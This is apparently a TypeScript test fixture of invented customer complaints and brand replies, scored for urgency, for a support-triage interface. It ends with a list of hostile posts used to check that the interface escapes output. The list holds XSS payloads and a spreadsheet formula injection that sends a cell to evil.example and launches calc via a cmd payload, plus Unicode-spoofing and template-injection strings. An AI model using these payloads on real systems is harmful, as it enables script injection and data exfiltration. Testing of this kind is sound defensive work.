import type { Level, Outcome, PromiseKind, PromiseState, Reason, ReplyAct } from '../../src/model.ts';

/** Invented stories for the pages: what was said, and what the reading and the fold made of it. Minutes are before now. */
export interface Story {
  handle: string;
  brand: 'lumen' | 'pakko';
  posts: StoryPost[];
  level: Level;
  urgency: number;
  outcome: Outcome;
  topic: string;
  reasons?: Reason[];
  status?: 'open' | 'pending' | 'resolved';
  promise?: { text: string; kind: PromiseKind; state: PromiseState; dueIn: number; post: number };
  /** Minutes until the first clock is due. */
  dueIn?: number;
  owner?: string;
}

export type StoryPost =
  | { who: 'customer'; ago: number; text: string; complaint?: boolean }
  | { who: 'brand'; ago: number; text: string; acts: ReplyAct[] };

function reason(code: string, points: number, text: string, inside: string): Reason {
  const start = [...inside.slice(0, inside.indexOf(text))].length;
  return { code, points, span: { text, start, end: start + [...text].length } };
}

const stranded =
  'Router dead since 6am, I care for my mother and her alarm runs over your line. Third time I write. Is anybody there @lumen';
const charged = '@lumen you took 89.90 twice from my account and chat says "wait 5 days". I cannot pay rent.';
const parcel = '@pakko parcel says delivered. It was not. Driver never rang. Neighbours have nothing.';
const waited = '@lumen still waiting for the call you promised me yesterday at 10. Took the morning off for it.';

export const STORIES: Story[] = [
  {
    handle: 'mira_dolan',
    brand: 'lumen',
    level: 'critical',
    urgency: 92,
    outcome: 'unanswered',
    topic: 'outage',
    dueIn: -22,
    reasons: [
      reason('vulnerable_situation', 30, 'I care for my mother', stranded),
      reason('stranded_now', 25, 'Router dead since 6am', stranded),
      reason('repeat_contact', 20, 'Third time I write', stranded),
      { code: 'waiting', points: 10, fact: 'waiting for 1 h 22' },
    ],
    posts: [{ who: 'customer', ago: 82, text: stranded, complaint: true }],
  },
  {
    handle: 'tomasz.w',
    brand: 'lumen',
    level: 'critical',
    urgency: 84,
    outcome: 'hollow',
    topic: 'billing',
    dueIn: 9,
    reasons: [
      reason('money_taken', 35, 'took 89.90 twice', charged),
      reason('hardship', 20, 'cannot pay rent', charged),
    ],
    posts: [
      { who: 'customer', ago: 300, text: charged, complaint: true },
      {
        who: 'brand',
        ago: 250,
        text: "Hi Tomasz, we're so sorry to hear this, that's not the experience we want for you. ^JK",
        acts: ['empathy'],
      },
      { who: 'customer', ago: 51, text: 'Sorry does not pay my rent. When do I get my money back?', complaint: true },
    ],
  },
  {
    handle: 'helen_ok',
    brand: 'lumen',
    level: 'high',
    urgency: 61,
    outcome: 'disputed',
    topic: 'product',
    dueIn: 31,
    reasons: [
      reason('promise_broken', 25, 'the call you promised me yesterday', waited),
      { code: 'repeat_contact', points: 10, fact: 'second case in 30 days' },
    ],
    promise: {
      text: 'A colleague will call you tomorrow at 10am',
      kind: 'contact',
      state: 'broken',
      dueIn: -1500,
      post: 1,
    },
    posts: [
      { who: 'customer', ago: 2900, text: '@lumen the new box reboots every hour, I work from home.', complaint: true },
      {
        who: 'brand',
        ago: 2800,
        text: 'Sorry about that, Helen! A colleague will call you tomorrow at 10am. ^AB',
        acts: ['apology', 'promise'],
      },
      { who: 'customer', ago: 29, text: waited, complaint: true },
    ],
  },
  {
    handle: 'okonkwo_j',
    brand: 'pakko',
    level: 'high',
    urgency: 55,
    outcome: 'unanswered',
    topic: 'delivery',
    dueIn: 44,
    reasons: [reason('not_received', 20, 'It was not', parcel)],
    posts: [{ who: 'customer', ago: 16, text: parcel, complaint: true }],
  },
  {
    handle: 'fenna',
    brand: 'pakko',
    level: 'normal',
    urgency: 34,
    outcome: 'promised',
    topic: 'delivery',
    status: 'pending',
    promise: {
      text: "we'll look into it and get back to you within 24 hours",
      kind: 'look_into',
      state: 'open',
      dueIn: 95,
      post: 1,
    },
    posts: [
      { who: 'customer', ago: 1400, text: '@pakko my parcel went to the wrong depot twice now', complaint: true },
      {
        who: 'brand',
        ago: 1345,
        text: "We apologise Fenna, we'll look into it and get back to you within 24 hours.",
        acts: ['apology', 'promise'],
      },
    ],
  },
  {
    handle: 'r_castellano',
    brand: 'lumen',
    level: 'normal',
    urgency: 28,
    outcome: 'private',
    topic: 'billing',
    posts: [
      { who: 'customer', ago: 700, text: 'why is my bill 12 higher this month @lumen', complaint: true },
      {
        who: 'brand',
        ago: 690,
        text: 'Hi! Please send us a DM with your account number so we can check.',
        acts: ['move_private', 'ask_info'],
      },
      { who: 'customer', ago: 120, text: 'sent you a DM 9 hours ago. nothing.', complaint: true },
    ],
  },
  {
    handle: 'lo_and_behold',
    brand: 'lumen',
    level: 'low',
    urgency: 8,
    outcome: 'asked',
    topic: 'website_app',
    posts: [{ who: 'customer', ago: 45, text: 'does the app work on older phones? @lumen' }],
  },
  {
    handle: 'greta_h',
    brand: 'lumen',
    level: 'normal',
    urgency: 20,
    outcome: 'confirmed',
    topic: 'outage',
    status: 'resolved',
    posts: [
      { who: 'customer', ago: 5000, text: '@lumen no internet in Hafenstrasse since lunch', complaint: true },
      {
        who: 'brand',
        ago: 4980,
        text: 'Sorry, Greta. A cable was cut; it is repaired and your line is up again since 14:10. We took 5.00 off your bill.',
        acts: ['apology', 'action', 'answer'],
      },
      { who: 'customer', ago: 4900, text: 'works again, thanks for the quick fix!' },
    ],
  },
];

/** Posts that attack. Every one must come out as the text it is. */
export const HOSTILE: string[] = [
  '<script>document.title="pwned"</script><img src=x onerror="document.title=\'pwned\'">',
  '"><svg onload=alert(1)> <a href="javascript:alert(1)">click</a> </textarea></script><script>alert(2)</script>',
  '=HYPERLINK("http://evil.example/?"&A1,"refund") @SUM(1+9)*cmd|\' /C calc\'!A0',
  'abc \u202Egnp.tab\u202C mirrored \u2066hidden\u2069 \u200B zero',
  `zalgo ${'Z\u0335\u0321\u0348\u0353\u030D\u0310\u0342\u0357'.repeat(20)}`,
  '&lt;b&gt; &#x3C;script&#x3E; &unknown; &#99999999; {{7*7}} <%= 7*7 %>',
  `long ${'wort'.repeat(10_000)}`,
];
